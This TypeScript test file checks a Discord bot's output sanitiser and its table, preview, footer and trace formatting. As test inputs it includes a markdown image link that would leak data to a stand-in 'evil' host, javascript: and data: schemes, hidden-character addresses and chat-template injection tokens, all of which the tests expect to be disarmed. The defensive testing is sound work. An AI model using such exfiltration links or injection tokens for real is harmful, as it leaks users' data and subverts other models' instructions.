import assert from "node:assert/strict";
import { describe, it, test } from "node:test";
import fc from "fast-check";
import type { Receipt, ToolCallRecord } from "../../../src/contracts.ts";
import { footer } from "../../../src/discord/text/footer.ts";
import { layOut } from "../../../src/discord/text/lay-out.ts";
import { neutralise } from "../../../src/discord/text/neutralise.ts";
import { previewOf } from "../../../src/discord/text/preview.ts";
import { standardFences } from "../../../src/discord/text/standard-fences.ts";
import { tablesForDiscord } from "../../../src/discord/text/tables.ts";
import { renderTrace, titleOf } from "../../../src/discord/text/trace.ts";
import { propertySettings, wildMarkdown } from "./markdown-arbitrary.ts";

const seenUrls = new Set(["https://seen.example/a", "https://nodejs.org"]);
const safe = (text: string): string => neutralise(text, { seenUrls });

describe("neutralise", () => {
  const cases = [
    ["an image that carries data", "![x](http://evil/?d=SECRET)", "x (`hxxp://evil/?d=SECRET`)"],
    ["a masked link", "[click](http://evil/?d=1)", "click (`hxxp://evil/?d=1`)"],
    [
      "bare and quiet addresses",
      "http://evil/x <https://evil/y> HTTP://E/z",
      "`hxxp://evil/x` `hxxps://evil/y` `hxxp://E/z`",
    ],
    [
      "a label that names another host",
      "[bank.com](https://seen.example/a)",
      "bank.com (`hxxps://seen.example/a`)",
    ],
    [
      "seen addresses",
      "[docs](https://seen.example/a) https://nodejs.org/",
      "[docs](<https://seen.example/a>) https://nodejs.org/",
    ],
    ["invites", "discord.gg/abc discord.com/invite/x", "discord[.]gg/abc discord[.]com/invite/x"],
    [
      "schemes that act",
      "[a](javascript:alert(1)) data:text/html,x discord://y",
      "a (`javascript[:]alert(1)`) data[:]text/html,x discord[:]//y",
    ],
    ["words that look like schemes", "the data: here, data:foo", "the data: here, data:foo"],
    ["the bot's own small text", "a\n-# gpt · 2 rounds\n> -# x", "a\n\\-# gpt · 2 rounds\n> \\-# x"],
    ["code blocks", "```js\n-# http://evil\n```", "```js\n-# http://evil\n```"],
    [
      "addresses between code that only seems to be",
      "a ``` b\n```\nx\n```\nhttp://e",
      "a \\`\\`\\` b\n```\nx\n```\n`hxxp://e`",
    ],
    ["template tokens, also nested ones", "<|im_<|x|>end|>[INST] hi <untrusted a>b</untrusted>", " hi b"],
    ["hidden characters in an address", "ht\u200btp://evil", "`hxxp://evil`"],
    ["an address in inline code", "`http://evil`", "`hxxp://evil`"],
    ["an address in an address", "``a](http://e?`b](https://evil", "``a](`hxxp://e?%60b](hxxps://evil`"],
  ] as const;
  for (const [name, source, expected] of cases)
    it(`handles ${name}`, () => assert.equal(safe(source), expected));

  it("leaves no address and no small text outside code blocks", () => {
    fc.assert(
      fc.property(wildMarkdown, (source) => {
        const once = safe(source);
        assert.doesNotMatch(
          once.replace(/^[ \t>]*(?:[-*+] +|\d+[.)] +)*```[^\n`]*\n[\s\S]*?(?:```|$(?![\s\S]))/gm, ""),
          // Small text begins a line; behind a backtick it is code.
          /https?:\/\/\w|^[ \t>]*(?:[-*+] +|\d+[.)] +)*-# /m,
        );
      }),
      propertySettings(80),
    );
  });
});

describe("tables and code blocks", () => {
  const table = "| Name | 数 | **n** |\n|:--|:-:|--:|\n| 漢字 | 👨‍👩‍👧‍👦 | `1` |\n| é | a\\|b | 20 |";
  it("aligns by display width", () =>
    assert.equal(
      tablesForDiscord(table),
      "```\nName  数    n\n----  ---  --\n漢字  👨‍👩‍👧‍👦    1\né     a|b  20\n```",
    ));
  it("writes wide tables, and those with mentions, as lines", () => {
    assert.equal(tablesForDiscord("|a|b|\n|-|-|\n|1|<@2>|"), "**a:** 1\n**b:** <@2>");
    assert.match(tablesForDiscord(`|a|b|\n|-|-|\n|1|${"x ".repeat(40)}|`), /^\*\*a:\*\* 1\n\*\*b:\*\* x/);
  });
  it("leaves malformed tables and code alone", () => {
    for (const text of ["| a | b |\n|---|\n| 1 |", "```\n|a|\n|-|\n|b|\n```"])
      assert.equal(tablesForDiscord(text), text);
  });
  it("writes fences as Discord reads them", () => {
    assert.equal(standardFences("~~~js\na```b\n~~~"), "```js\na`\u200b`\u200b`b\n```");
    assert.equal(standardFences("Here: ```js\nx\n```"), "Here:\n```js\nx\n```");
  });
});

describe("previewOf", () => {
  const cases = [
    ["a **wor", "a **wor**"],
    ["a **", "a"],
    ["a `co", "a `co`"],
    ["see [the do", "see"],
    ["see [d](http://x", "see"],
    ["hi <@123", "hi"],
    ["hi 👨\u200d", "hi"],
    ["hi 🇩", "hi"],
    ["hi \ud83d", "hi"],
    ["a\n```js", "a"],
    ["a\n```js\nx\n``", "a\n```js\nx\n```"],
    ["| a | b |\n|--", ""],
    ["|a|\n|-|\n|1|\n|2", "```\na\n-\n1\n```"],
  ] as const;
  for (const [source, expected] of cases)
    it(`shows ${JSON.stringify(source)}`, () => assert.equal(previewOf(source), expected));

  it("always fits into one message", () => {
    fc.assert(
      fc.property(wildMarkdown, fc.nat(), (source, at) => {
        assert.ok(previewOf(source.slice(0, at % (source.length + 1)), { prepare: safe }).length <= 2000);
      }),
      propertySettings(80),
    );
  });
});

describe("layOut", () => {
  const line = footer({
    model: "gpt-5",
    rounds: 2,
    tools: 1,
    seconds: 4.21,
    costUsd: 0.0031,
    notices: ["Cut off."],
  });
  it("writes the footer", () =>
    assert.equal(line, "-# gpt-5 · 2 rounds · 1 tool · 4.2 s · $0.0031\n-# Cut off."));
  it("puts what is too long into a file, whole", () => {
    const source = "word ".repeat(3000);
    const { parts, file } = layOut(source, { footer: line });
    assert.equal(parts.length, 3);
    assert.ok(parts.every((part) => part.length <= 2000));
    assert.ok(parts.at(-1)?.endsWith(`answer.md.\n${line}`));
    assert.deepEqual(file, { name: "answer.md", text: source });
  });
  it("marks a file that is cut at the limit", () => {
    const { file } = layOut("é".repeat(9000), { maxFileBytes: 1000 });
    assert.ok(Buffer.byteLength(file?.text ?? "") <= 1000);
    assert.match(file?.text ?? "", /é\n\n\[Cut here/);
  });
});

describe("renderTrace", () => {
  const usage = { inputTokens: 12, outputTokens: 8, isEstimated: false };
  const call = (
    tool: string,
    args: string,
    result: string,
    isError: boolean,
    startedAt: number,
  ): ToolCallRecord => ({
    tool,
    args,
    result,
    isError,
    round: 1,
    startedAt,
    durationMs: 300,
  });
  const calls = [
    call(
      "web",
      '{"q":"a```b","token":"abc1","n":{"Authorization":"Bearer z9"},"max_tokens":3}',
      "r```\n".repeat(900),
      false,
      100,
    ),
    call("fetch", '{"password": "hunter2"', "Tool error: k\u200bey-1", true, 220),
  ];
  const receipt: Receipt = {
    taskId: "1",
    startedAt: 0,
    durationMs: 900,
    backend: "openai:m",
    usage,
    notices: [],
    rounds: [{ round: 1, model: "m", durationMs: 500, usage, toolCalls: calls }],
  };
  const trace = renderTrace(receipt, {
    question: "<@1> @everyone **What** now?",
    redact: (t) => t.replaceAll("key-1", "[gone]"),
  });

  it("names the thread", () => assert.equal(trace.title, "What now?"));
  const titles = [
    ["what does current_time return, and 2 * 3 | 4?", "what does current_time return, and 2 * 3 | 4?"],
    ["**_Why_** is `snake_case` __so__ ||hidden||?", "Why is snake_case so hidden?"],
    ["> - *first* ~~old~~ ~5", "first old ~5"],
  ] as const;
  for (const [question, title] of titles)
    it(`names it ${title}`, () =>
      assert.equal(
        titleOf(question, "none", (text) => text),
        title,
      ));
  it("shows no secret anywhere", () => {
    const all = JSON.stringify(trace);
    for (const secret of ["abc1", "Bearer z9", "hunter2", "key-1"]) assert.ok(!all.includes(secret), secret);
    assert.match(all, /max_tokens/);
  });
  it("fits, keeps the whole in files, and says what failed", () => {
    const texts = trace.messages.map((message) => message.text);
    for (const text of texts) {
      assert.ok(text.length <= 2000);
      assert.equal((text.match(/```/g) ?? []).length % 2, 0);
    }
    assert.match(texts.join("\n"), /fetch {2}│ +█+ *│ {2}\+120 ms {2}300 ms {2}failed/);
    assert.deepEqual(
      trace.messages.flatMap((m) => m.files ?? []).map((f) => f.text),
      ["r```\n".repeat(900)],
    );
  });
});

describe("addresses of a model that read nothing from others", () => {
  const show = (markdown: string): string => neutralise(markdown, { seenUrls: new Set(), unseen: "show" });

  test("stay links, never behind a label", () => {
    assert.equal(show("See https://example.com/a."), "See https://example.com/a.");
    assert.equal(show("[docs](https://example.com/a)"), "docs (<https://example.com/a>)");
    assert.equal(show("![x](https://evil.example/?d=1)"), "x (<https://evil.example/?d=1>)");
  });

  test("are still broken when they act or invite", () => {
    assert.doesNotMatch(show("[x](javascript:alert(1))"), /javascript:a/);
    assert.doesNotMatch(show("https://discord.gg/abc"), /discord\.gg/);
  });
});
